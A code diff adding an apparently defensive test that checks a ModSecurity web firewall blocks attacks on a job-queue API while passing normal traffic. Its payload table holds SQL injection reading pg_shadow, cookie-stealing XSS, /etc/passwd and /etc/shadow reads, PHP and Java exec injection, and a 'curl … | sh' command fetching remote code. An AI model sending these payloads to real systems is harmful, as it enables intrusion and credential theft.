@@ -277,6 +277,92 @@ def test_a_job_posted_over_https_through_the_edge_completes(host):
     assert done["state"] == "done", done
 
 
+# One request of each attack family the Core Rule Set blocks at paranoia level 1, aimed at
+# the real API's routes, in the query string, a JSON body or a header.
+WAF_ATTACKS = (
+    ("SQL injection, query", "GET", "/v1/campaigns?id=1%27%20OR%20%271%27%3D%271", (), None),
+    ("SQL injection, JSON body", "POST", "/v1/campaigns", (),
+     {"name": "x' UNION SELECT usename, passwd FROM pg_shadow--"}),
+    ("cross-site scripting, query", "GET", "/v1/campaigns?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", (),
+     None),
+    ("cross-site scripting, JSON body", "POST", "/v1/campaigns", (), {"name": "<img src=x onerror=alert(1)>"}),
+    ("path traversal", "GET", "/v1/jobs/1?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", (), None),
+    ("OS file access", "GET", "/v1/campaigns?page=/etc/shadow", (), None),
+    ("command injection, query", "GET", "/v1/campaigns?cmd=%3Bcat%20%2Fetc%2Fpasswd", (), None),
+    ("command injection, JSON body", "POST", "/v1/jobs", (),
+     {"queue": "default; curl http://203.0.113.9/x | sh", "seconds": 0.1}),
+    ("PHP injection", "GET", "/v1/campaigns?x=%3C%3Fphp%20system(%27id%27)%3B%20%3F%3E", (), None),
+    ("Java code injection", "POST", "/v1/campaigns", (), {"name": 'java.lang.Runtime.getRuntime().exec("id")'}),
+    ("scanner", "GET", "/v1/campaigns", ("-A", "Nikto/2.1.6"), None),
+    ("HTTP header injection", "GET", "/v1/campaigns?next=%0d%0aSet-Cookie:%20session=evil", (), None),
+)
+
+
+def edge_request(client, method, path, options=(), body=None):
+    """(status, headers, body text) of one request to https://matcraft.test, sent as given."""
+    cmd = ["curl", "-sS", "--max-time", "15", "-D", "-", "-o", "/tmp/site-test-body", "-X", method] + list(options)
+    if body is not None:
+        cmd += ["-H", "Content-Type: application/json", "--data", json.dumps(body)]
+    result = client.run(" ".join(["%s"] * (len(cmd) + 1)) + "; cat /tmp/site-test-body", *cmd,
+                        "https://%s%s" % (DOMAIN, path))
+    assert result.rc == 0, result.stderr
+    head, _, text = result.stdout.partition("\r\n\r\n")
+    lines = head.splitlines()
+    headers = {name.strip().lower(): value.strip() for name, _, value in (line.partition(":") for line in lines[1:])}
+    return int(lines[0].split()[1]), headers, text
+
+
+def test_the_waf_blocks_attacks_on_the_real_api_and_passes_its_traffic(host):
+    """inventories/small turns the WAF on in blocking mode: every attack family gets the edge's
+    403 and never reaches the API (no row written), while the API's own traffic through the
+    same edge passes (the rest of this suite, the rotation stream included, goes through it too)."""
+    edge, db = peer("site-api1"), peer("site-db1")
+    assert "modsecurity on;" in edge.run("nginx -T 2>/dev/null").stdout
+
+    def campaigns():
+        count = db.run("runuser -u postgres -- psql -d matcraft -Atc %s", "SELECT count(*) FROM campaigns")
+        assert count.rc == 0, count.stderr
+        return int(count.stdout)
+
+    def denials():
+        return int(edge.run("grep -c 'ModSecurity: Access denied with code 403' /var/log/nginx/error.log").stdout or 0)
+
+    before, denied = campaigns(), denials()
+    passed = []
+    for family, method, path, options, body in WAF_ATTACKS:
+        status, headers, text = edge_request(host, method, path, options, body)
+        if status != 403 or headers.get("content-type") != "application/json" or json.loads(text) != {
+                "detail": "Forbidden"}:
+            passed.append((family, status, text[:200]))
+        time.sleep(0.2)  # under the edge's rate limit
+    assert not passed, "attacks not blocked by the WAF: %r" % passed
+    assert denials() - denied == len(WAF_ATTACKS)
+    assert campaigns() == before, "a blocked request wrote to the database"
+
+    legitimate = ("Perovskite CsPbI3 band gap (x=0.35) - run #12", "Fe2O3/TiO2 baseline; see notes",
+                  "LiNi0.8Mn0.1Co0.1O2 cathode < 4.3 V, select the best 10% by capacity",
+                  "Alice's screen: 'high-entropy' alloys & oxides")
+    for name in legitimate:
+        status, _, text = edge_request(host, "POST", "/v1/campaigns", (), {"name": name})
+        assert status == 201 and json.loads(text)["name"] == name, (status, text)
+    token = "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJl"
+    status, _, text = edge_request(host, "GET", "/v1/campaigns", ("-H", token))
+    assert status == 200 and set(legitimate) <= {row["name"] for row in json.loads(text)}, (status, text[:300])
+    status, headers, _ = edge_request(host, "OPTIONS", "/v1/jobs", (
+        "-H", "Origin: https://dashboard.matcraft.test", "-H", "Access-Control-Request-Method: POST",
+        "-H", "Access-Control-Request-Headers: authorization,content-type"))
+    assert status == 200 and headers.get("access-control-allow-origin") == "https://dashboard.matcraft.test", headers
+    status, _, text = edge_request(host, "POST", "/v1/jobs", ("-H", token), {"seconds": 0.1, "queue": "default"})
+    assert status == 202, text
+    job = json.loads(text)["id"]
+    done = wait_for("job %s done" % job,
+                    lambda: (lambda r: r[1] if r[0] == 200 and r[1]["state"] == "done" else None)(
+                        public(host, "GET", "/v1/jobs/%d" % job)), 120, 2)
+    assert done["state"] == "done"
+    assert campaigns() == before + len(legitimate)
+    assert denials() - denied == len(WAF_ATTACKS), "the WAF denied a legitimate request"
+
+
 def test_edge_talks_tls_to_the_api_with_verification():
     edge = peer("site-api1")
     config = edge.run("nginx -T 2>/dev/null").stdout
